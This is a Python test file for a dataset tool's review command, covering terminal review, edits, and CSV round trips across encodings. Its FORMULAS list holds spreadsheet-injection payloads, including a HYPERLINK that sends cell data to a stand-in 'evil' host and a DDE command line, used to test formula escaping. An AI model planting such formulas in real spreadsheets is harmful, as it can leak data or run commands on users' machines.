"""`review`: keys at a real terminal, judgements on disk as they are made, edits as new rows, CSV out and in."""

from __future__ import annotations

import csv
import json
import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from datagen.data.rows import row_id
from datagen.errors import DataError, UsageError
from datagen.recipe import make
from datagen.review_csv import guarded, unguarded
from datagen.reviews import Judgement, Review, share
from datagen.runner import execute

ROWS = [{"instruction": f"Name the colour of thing {i}.", "output": f"It is colour {i}."} for i in range(12)]


@pytest.fixture
def out(datagen: Any, write_jsonl: Any, tmp_path: Path) -> Path:
    """Give the folder of a finished run."""
    write_jsonl("rows.jsonl", *ROWS)
    assert datagen("filter", "rows.jsonl", "-o", "out", "--stage", "rules").returncode == 0
    return tmp_path / "out"


def at_a_terminal(folder: Path, env: dict[str, str], keys: str, *more: str) -> str:
    """Run `review` at a pseudo terminal and press keys, each when its row is shown; return what was printed."""
    master, slave = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "datagen", "review", "out", *more], cwd=folder, env={**env, "TERM": "xterm", "EDITOR": "true"},
        stdin=slave, stdout=slave, stderr=slave, close_fds=True,
    )  # fmt: skip
    os.close(slave)
    said, left, deadline = "", list(keys), time.monotonic() + 60
    shown = 0
    while time.monotonic() < deadline:
        if not select.select([master], [], [], 0.2)[0]:
            if child.poll() is not None:
                break
            continue
        try:
            said += os.read(master, 65536).decode("utf-8", "replace")
        except OSError:
            break
        if left and said.count("q quit") > shown:
            shown = said.count("q quit")
            time.sleep(0.3)  # a terminal that is made ready for keys forgets those that came before
            os.write(master, left.pop(0).encode())
    child.wait(10)
    os.close(master)
    return said


@pytest.mark.slow
def test_a_key_per_row_and_the_next_call_goes_on(out: Path, clean_environment: dict[str, str]) -> None:
    said = at_a_terminal(out.parent, clean_environment, "arq", "--sample", "4")
    assert "1 of 4" in said and "accepted 1, edited 0, rejected 1; 2 of this sample left" in said
    assert [json.loads(line)["decision"] for line in (out / "review" / "judgements.jsonl").read_text().splitlines()] == [
        "accept", "reject",
    ]  # fmt: skip
    said = at_a_terminal(out.parent, clean_environment, "aa", "--sample", "4")
    assert "3 of 4" in said and "accepted 3, edited 0, rejected 1; 0 of this sample left" in said
    assert pq.read_table(out / "review" / "kept").num_rows == 3
    [lost] = pq.read_table(out / "review" / "dropped").to_pylist()
    assert (lost["stage"], lost["reason"]) == ("review", "rejected")


def test_an_edit_is_a_new_row_with_its_parent(out: Path) -> None:
    review = Review(out)
    row = review.sample(1, 17)[0]
    review.judge(Judgement(row["id"], "edit", "too short", row["instruction"], "", "It is a warm red."))
    assert review.write() == {"accept": 0, "edit": 1, "reject": 0}
    [new] = pq.read_table(out / "review" / "kept").to_pylist()
    assert (new["output"], new["parents"], new["id"]) == ("It is a warm red.", [row["id"]], row_id(new))
    [old] = pq.read_table(out / "review" / "dropped").to_pylist()
    assert (old["id"], old["reason"], old["witness_id"], old["evidence"]) == (row["id"], "edited", new["id"], "too short")


def test_a_csv_goes_out_and_comes_back(out: Path, datagen: Any, tmp_path: Path) -> None:
    assert datagen("review", "out", "--sample", "4", "--csv", "r.csv").returncode == 0
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
        lines = list(csv.DictReader(f))
    assert len(lines) == 4 and {line["decision"] for line in lines} == {""}
    lines[0]["decision"], lines[1]["decision"], lines[1]["note"] = "accept", "Reject", "wrong"
    lines[2]["decision"], lines[2]["output"] = "accept", "It is\nblue."
    with (tmp_path / "r.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, lines[0].keys())
        writer.writeheader()
        writer.writerows(lines)
    done = datagen("review", "out", "--sample", "4", "--from-csv", "r.csv", "--json")
    told = json.loads(done.stdout)
    assert {k: told[k] for k in ("accept", "edit", "reject", "left")} == {"accept": 1, "edit": 1, "reject": 1, "left": 1}
    assert (round(told["low"], 3), round(told["high"], 3)) == (0.061, 0.792)
    assert "3 judgements taken" in done.stderr
    again = datagen("review", "out", "--from-csv", "r.csv")  # what is left is of the file, whatever --sample says
    assert "1 of this sample left" in again.stdout
    assert "fill in `decision` of the rows left in r.csv" in again.stdout and "next: datagen review" not in again.stdout
    assert "0 judgements taken" in again.stderr


def test_a_sample_of_one_source(datagen: Any, write_jsonl: Any, tmp_path: Path) -> None:
    write_jsonl("rows.jsonl", *({**row, "source": ("made", "people")[i % 2]} for i, row in enumerate(ROWS)))
    assert datagen("filter", "rows.jsonl", "-o", "out", "--stage", "rules").returncode == 0
    review = Review(tmp_path / "out")
    assert [r["source"] for r in review.sample(100, 17, "made")] == ["made"] * 6
    assert review.sample(2, 17, "made") == review.sample(100, 17, "made")[:2]
    done = datagen("review", "out", "--source", "wrong", "--csv", "r.csv")
    assert done.returncode == 2 and "no kept row is of the source 'wrong'; there are: made, people" in done.stderr


def test_a_wrong_csv_is_one_line_and_leaves_nothing(out: Path, tmp_path: Path) -> None:
    review = Review(out)
    path = tmp_path / "r.csv"
    review.export(path, review.sample(3, 17))
    text = path.read_text("utf-8-sig").splitlines()
    path.write_text("\n".join([text[0], text[1].replace(",,,", ",accept,,", 1), text[2].replace(",,,", ",maybe,,", 1)]))
    with pytest.raises(UsageError, match="line 3: 'maybe' is no decision; write accept, edit or reject"):
        review.take(path)
    assert not review.judged
    path.write_text("id,decision\n")
    with pytest.raises(DataError, match="has no column 'note'"):
        review.take(path)


def test_a_larger_sample_holds_the_smaller_one(out: Path) -> None:
    review = Review(out)
    few, more = ([r["id"] for r in review.sample(n, 5)] for n in (3, 8))
    assert more[:3] == few


def test_a_line_cut_off_by_a_kill_is_no_judgement_and_the_next_one_is_whole(out: Path) -> None:
    review = Review(out)
    one, other = (r["id"] for r in review.sample(2, 1))
    review.judge(Judgement(one, "accept"))
    with (out / "review" / "judgements.jsonl").open("a") as f:
        f.write('{"id": "cut o')
    review.judge(Judgement(other, "reject"))
    assert {k: j.decision for k, j in review.judged.items()} == {one: "accept", other: "reject"}


def test_without_a_terminal_or_a_run_it_says_what_to_do(out: Path, datagen: Any) -> None:
    done = datagen("review", "out")
    assert done.returncode == 2 and "needs a terminal; --csv FILE" in done.stderr
    done = datagen("review", "nowhere")
    assert done.returncode == 3 and "not a finished run" in done.stderr


def test_the_interval_is_wilsons() -> None:
    assert share(0, 0) == (0.0, 0.0, 1.0)
    part, low, high = share(8, 10)
    assert (part, round(low, 4), round(high, 4)) == (0.8, 0.4902, 0.9433)


# What a spreadsheet would run, in the ways that a cell can begin.
FORMULAS = [
    '=HYPERLINK("http://evil/"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3\ttab", "\t=1+1", "\r=1+1", " \u00a0=1+1",
    "\n\n@x",     "＝1+1", "＋1", "－1", "＠x", "\u200b=1", "'=already", "''=twice", "\tplain", "- a list\n- of two",
]  # fmt: skip
PLAIN = ["plain", "'quoted' text", "'", "1-1=0", "", "a\n=b", "ไทย", "汉字：＝", "'tis"]


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_no_cell_is_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert cell == (f"'{text}" if text in FORMULAS else text)
    assert cell.lstrip(" \t\r\n\u00a0\u200b")[:1] not in tuple("=+-@＝＋－＠")


def test_a_csv_of_formulas_is_neutral_and_its_decisions_come_back(datagen: Any, write_jsonl: Any, tmp_path: Path) -> None:
    rows = [
        {"instruction": text, "input": f" {text}", "output": f"{text} {n}"} for n, text in enumerate(FORMULAS) if text.strip()
    ]
    write_jsonl("rows.jsonl", *rows)
    assert datagen("filter", "rows.jsonl", "-o", "out", "--stage", "rules").returncode == 0
    review = Review(tmp_path / "out")
    first, second, third, *rest = review.sample(len(rows), 17)
    review.judge(Judgement(first["id"], "edit", "=note", "=edited", "", "+answer"))
    assert review.export(tmp_path / "r.csv", [first, second, third, *rest]) == (len(rows), 0)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
        lines = list(csv.DictReader(f))
    assert not [v for line in lines for v in line.values() if v.lstrip()[:1] in tuple("=+-@＝＋－＠") and v.strip()]
    assert review.take(tmp_path / "r.csv")[0] == 0  # nothing was changed: no edit comes of the apostrophes
    lines[1].update(decision="accept", note="-fine")
    lines[2].update(decision="edit", output=f"{lines[2]['output']} and more")
    lines[3]["instruction"] = rest[0]["instruction"]  # a spreadsheet that took the apostrophe off
    with (tmp_path / "r.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, lines[0].keys())
        writer.writeheader()
        writer.writerows(lines)
    assert review.take(tmp_path / "r.csv")[0] == 2
    judged = review.judged
    assert judged[first["id"]] == Judgement(first["id"], "edit", "=note", "=edited", "", "+answer")
    assert judged[second["id"]] == Judgement(second["id"], "accept", "-fine")
    edit = judged[third["id"]]
    assert (edit.instruction, edit.input, edit.output) == (third["instruction"], third["input"], f"{third['output']} and more")


# What a spreadsheet makes of the file: what stands between its cells, and the encoding.
SAVED = [
    (";", "utf-8-sig", ""),
    ("\t", "utf-16", ""),
    (",", "utf-8", ""),
    (";", "cp1252", "cp1252"),
    (",", "gbk", "gb18030"),
    ("\t", "cp874", "cp874"),
]
TEXT = {
    "cp1252": "Où est le café d’été?", "gbk": "请说明水的沸点，并写出单位。", "cp874": "ประเทศไทยมีเมืองหลวงชื่ออะไร",
    "utf-16": "水 ไทย é 😀",
}  # fmt: skip


def saved(path: Path, lines: list[dict[str, str]], delimiter: str = ",", encoding: str = "utf-8") -> None:
    with path.open("w", encoding=encoding, errors="replace", newline="") as f:
        writer = csv.DictWriter(f, lines[0].keys(), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(lines)


def run_of(tmp_path: Path, *rows: dict[str, str]) -> tuple[Review, list[dict[str, str]]]:
    """Give the review of a run of rows, and the lines of its CSV, each accepted."""
    (tmp_path / "rows.jsonl").write_text("\n".join(map(json.dumps, rows)))
    execute(make([{"rules": {"use": ["cut_ending"], "mode": "flag"}}], input=(str(tmp_path / "rows.jsonl"),)), tmp_path / "out")
    review = Review(tmp_path / "out")
    review.export(tmp_path / "r.csv", review.sample(100, 17))
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
        return review, [{**line, "decision": "accept"} for line in csv.DictReader(f)]


@pytest.mark.parametrize(("delimiter", "encoding", "named"), SAVED)
def test_a_csv_as_a_spreadsheet_saves_it(tmp_path: Path, delimiter: str, encoding: str, named: str) -> None:
    text = TEXT.get(encoding, "a; b, c")
    review, lines = run_of(tmp_path, {"instruction": text, "output": f"{text} 1"}, {"instruction": "Say it.", "output": text})
    saved(tmp_path / "r.csv", lines, delimiter, encoding)
    if named:
        with pytest.raises(DataError, match=rf"r\.csv, line \d: its bytes are not UTF-8; .*--encoding {named}"):
            review.take(tmp_path / "r.csv")
    taken = review.take(tmp_path / "r.csv", named)
    assert (taken.judgements, taken.notes) == (2, []) and {one.decision for one in review.judged.values()} == {"accept"}


def test_a_wrong_encoding_of_a_csv_is_named(tmp_path: Path) -> None:
    review, lines = run_of(tmp_path, {"instruction": "Say it.", "output": TEXT["gbk"]})
    saved(tmp_path / "r.csv", lines)
    with pytest.raises(UsageError, match="there is no encoding 'gbkk'"):
        review.take(tmp_path / "r.csv", "gbkk")
    with pytest.raises(DataError, match="line 2: its bytes are not big5"):
        review.take(tmp_path / "r.csv", "big5")


@pytest.mark.parametrize(("character", "kept"), [("b", 32_767), ("水", 32_767), ("ก", 65_535), ("😀", 16_383)])
def test_a_cell_that_a_spreadsheet_cut_is_no_edit(tmp_path: Path, character: str, kept: int) -> None:
    long = character * 70_000
    review, lines = run_of(tmp_path, {"instruction": "Say it.", "output": long}, {"instruction": "=1", "output": "Two."})
    assert review.export(tmp_path / "r.csv", review.sample(9, 1)) == (2, 1)
    for line in lines:
        if line["output"] == long:
            line["output"], cut = long[:kept], line["id"]
    saved(tmp_path / "r.csv", lines)
    taken = review.take(tmp_path / "r.csv")
    [note] = taken.notes
    assert "1 text stopped at" in note and "the most that a cell of the spreadsheet holds" in note and "unchanged" in note
    assert review.judged[cut] == Judgement(cut, "accept")
    for line in lines:  # a person's own cut, and a person's edit beside a cut
        if line["id"] == cut:
            line["instruction"] = "Say it again."
    saved(tmp_path / "r.csv", lines)
    review.take(tmp_path / "r.csv")
    assert review.judged[cut] == Judgement(cut, "edit", "", "Say it again.", "", long)
    for line in lines:
        if line["id"] == cut:
            line["output"] = long[: kept // 3]
    saved(tmp_path / "r.csv", lines)
    assert review.take(tmp_path / "r.csv").notes == [] and review.judged[cut].output == long[: kept // 3]


@pytest.mark.parametrize("text", ["ราคา 5 บาท", "5 € 😀", "-水"])
def test_characters_that_an_encoding_lacks_are_no_edit(tmp_path: Path, text: str) -> None:
    review, lines = run_of(tmp_path, {"instruction": "Say it.", "output": text})
    for mark in ("?", "??"):
        lines[0]["output"] = "".join(c if c.isascii() else mark if c > "\uffff" else "?" for c in guarded(text))
        saved(tmp_path / "r.csv", lines)
        taken = review.take(tmp_path / "r.csv")
        assert ["had ? for characters" in note for note in taken.notes] == [True]
        assert {one.decision for one in review.judged.values()} == {"accept"}
    lines[0]["output"] = "What? 5?"
    saved(tmp_path / "r.csv", lines)
    assert review.take(tmp_path / "r.csv").notes == [] and review.judged[lines[0]["id"]].output == "What? 5?"
